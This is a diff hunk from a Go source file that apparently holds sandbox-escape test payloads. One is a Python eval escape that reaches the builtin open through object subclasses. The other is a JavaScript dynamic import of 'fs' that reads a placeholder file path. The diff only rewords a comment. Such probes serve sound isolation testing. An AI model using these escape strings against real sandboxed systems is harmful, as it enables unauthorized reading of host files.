@@ -14,7 +14,7 @@ import (
 // else. That of Python needs no builtins, for who takes those away thinks that eval is safe.
 const (
 	python = `[c for c in ().__class__.__base__.__subclasses__() if c.__name__=="_wrap_close"][0].__init__.__globals__["open"]("@",0)`
-	// javaScript refuses nothing: a promise that nobody waits for would end a program that imports nothing.
+	// javaScript catches its rejection: an unhandled one would end Node.js where import is not allowed.
 	javaScript = `import("fs").then(f=>f.readFileSync("@")).catch(()=>0)`
 	// machine is for those who take a context of its own for a wall: what is handed into it
 	// leads out.
